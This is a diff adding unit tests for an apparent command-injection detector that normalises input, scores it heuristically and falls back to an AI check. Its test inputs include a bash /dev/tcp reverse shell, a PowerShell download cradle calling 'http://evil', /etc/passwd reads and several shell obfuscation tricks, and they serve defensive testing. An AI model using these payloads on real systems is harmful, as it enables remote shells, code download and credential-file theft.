@@ -0,0 +1,160 @@
+import { describe, it, expect, vi, beforeEach } from 'vitest';
+import { CommandInjectionAgent } from '../../src/agents/CommandInjectionAgent';
+import { Env } from '../../src/types';
+
+describe('CommandInjectionAgent', () => {
+    let agent: CommandInjectionAgent;
+    let mockEnv: Env;
+
+    beforeEach(() => {
+        // Mock Environment
+        mockEnv = {
+            AI: {
+                run: vi.fn(),
+            } as any,
+            SENTINEL_KV: {} as any,
+            SENTINEL_WORKFLOW: {} as any,
+            DB: {} as any, // Mock D1 database
+            ENVIRONMENT: 'dev',
+            API_KEY: 'test-key',
+        };
+        agent = new CommandInjectionAgent(mockEnv);
+    });
+
+    describe('Layer 1: Normalization', () => {
+        it('should decode URL encoded payloads recursively', () => {
+            expect(agent.normalize("%253B%2520whoami")).toBe("; whoami");
+        });
+
+        it('should replace IFS tricks with spaces', () => {
+            expect(agent.normalize("cat${IFS}/etc/passwd")).toBe("cat /etc/passwd");
+            expect(agent.normalize("cat$IFS$9/etc/passwd")).toBe("cat /etc/passwd");
+        });
+
+        it('should resolve ${PATH:0:1} to a slash', () => {
+            expect(agent.normalize("cat ${PATH:0:1}etc${PATH:0:1}passwd")).toBe("cat /etc/passwd");
+        });
+
+        it('should join quote-split and escape-split words', () => {
+            expect(agent.normalize("w'h'o'am'i")).toBe("whoami");
+            expect(agent.normalize('c"a"t /etc/passwd')).toBe("cat /etc/passwd");
+            expect(agent.normalize("c\\at /etc/passwd")).toBe("cat /etc/passwd");
+            expect(agent.normalize("wh$@oami")).toBe("whoami");
+            expect(agent.normalize("w^h^o^a^m^i")).toBe("whoami");
+        });
+
+        it('should decode hex and octal escapes', () => {
+            expect(agent.normalize("$'\\x63\\x61\\x74' /etc/passwd")).toBe("cat /etc/passwd");
+            expect(agent.normalize("$'\\143\\141\\164' /etc/passwd")).toBe("cat /etc/passwd");
+        });
+
+        it('should keep Windows path separators', () => {
+            expect(agent.normalize("type C:\\Windows\\win.ini")).toBe("type c:/windows/win.ini");
+        });
+
+        it('should treat newlines as command separators', () => {
+            expect(agent.normalize("foo\nid")).toBe("foo;id");
+        });
+    });
+
+    describe('Layer 2: Heuristic Analysis', () => {
+        it('should detect chained commands (Score > 50)', () => {
+            const { score, flags } = agent.heuristicAnalysis(agent.normalize("127.0.0.1; cat /etc/passwd"));
+            expect(score).toBeGreaterThan(50);
+            expect(flags).toContain("Command Chaining");
+            expect(flags).toContain("Sensitive File Read");
+        });
+
+        it('should detect pipe and logical operators', () => {
+            expect(agent.heuristicAnalysis(agent.normalize("x | id")).flags).toContain("Command Chaining");
+            expect(agent.heuristicAnalysis(agent.normalize("x && whoami")).flags).toContain("Command Chaining");
+            expect(agent.heuristicAnalysis(agent.normalize("x || uname -a")).flags).toContain("Command Chaining");
+        });
+
+        it('should detect command substitution', () => {
+            expect(agent.heuristicAnalysis(agent.normalize("name=`whoami`")).flags).toContain("Command Substitution");
+            expect(agent.heuristicAnalysis(agent.normalize("name=$(id)")).flags).toContain("Command Substitution");
+        });
+
+        it('should detect reverse shells', () => {
+            const { score, flags } = agent.heuristicAnalysis(agent.normalize("; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
+            expect(score).toBe(100);
+            expect(flags).toContain("Reverse Shell");
+        });
+
+        it('should detect Windows shells', () => {
+            const { score, flags } = agent.heuristicAnalysis(agent.normalize("& cmd.exe /c whoami"));
+            expect(score).toBeGreaterThan(50);
+            expect(flags).toContain("Windows Shell");
+        });
+
+        it('should detect PowerShell download cradles', () => {
+            const payload = "| powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil/a.ps1')\"";
+            const { flags } = agent.heuristicAnalysis(agent.normalize(payload));
+            expect(flags).toContain("Download and Execute");
+        });
+
+        it('should score standard text low', () => {
+            const { score } = agent.heuristicAnalysis(agent.normalize("Hello world, this is a test comment."));
+            expect(score).toBe(0);
+        });
+    });
+
+    describe('Layer 3: AI Verification', () => {
+        it('should NOT call AI if heuristic score is low', async () => {
+            await agent.analyze("Just a normal search query");
+            expect(mockEnv.AI.run).not.toHaveBeenCalled();
+        });
+
+        it('should call AI if heuristic score is high', async () => {
+            (mockEnv.AI.run as any).mockResolvedValue({
+                response: JSON.stringify({
+                    attackType: "Command Injection",
+                    confidence: "High",
+                    riskScore: 97,
+                    explanation: "Chained shell command",
+                    action: "block"
+                })
+            });
+
+            const result = await agent.analyze("127.0.0.1; cat /etc/passwd");
+            expect(mockEnv.AI.run).toHaveBeenCalled();
+            expect(result.action).toBe("block");
+            expect(result.riskScore).toBe(97);
+        });
+
+        it('should handle AI JSON parsing errors gracefully (Fallback to Heuristics)', async () => {
+            (mockEnv.AI.run as any).mockResolvedValue({
+                response: "I am not a JSON object"
+            });
+
+            const result = await agent.analyze("127.0.0.1; cat /etc/passwd");
+            expect(result.attackType).toContain("Command Injection (Heuristic Fallback)");
+            expect(result.action).toBe("block"); // Heuristic score was high enough
+        });
+    });
+
+    describe('Edge Cases & False Positives', () => {
+        it('should not flag form bodies with binary-like parameter names', () => {
+            const { score } = agent.heuristicAnalysis(agent.normalize("q=shoes&type=json&id=5&sort=asc"));
+            expect(score).toBeLessThanOrEqual(50);
+        });
+
+        it('should not flag prose with ampersands', () => {
+            const { score } = agent.heuristicAnalysis(agent.normalize("Tom & Jerry; cats and dogs"));
+            expect(score).toBeLessThanOrEqual(50);
+        });
+    });
+
+    describe('Red Team: Complex Obfuscation', () => {
+        it('should handle IFS with quote splitting', () => {
+            const { score } = agent.heuristicAnalysis(agent.normalize(";c'a't${IFS}${PATH:0:1}etc${PATH:0:1}passwd"));
+            expect(score).toBeGreaterThan(50);
+        });
+
+        it('should handle URL-encoded newline chaining', () => {
+            const { flags } = agent.heuristicAnalysis(agent.normalize("ip=127.0.0.1%0aid"));
+            expect(flags).toContain("Command Chaining");
+        });
+    });
+});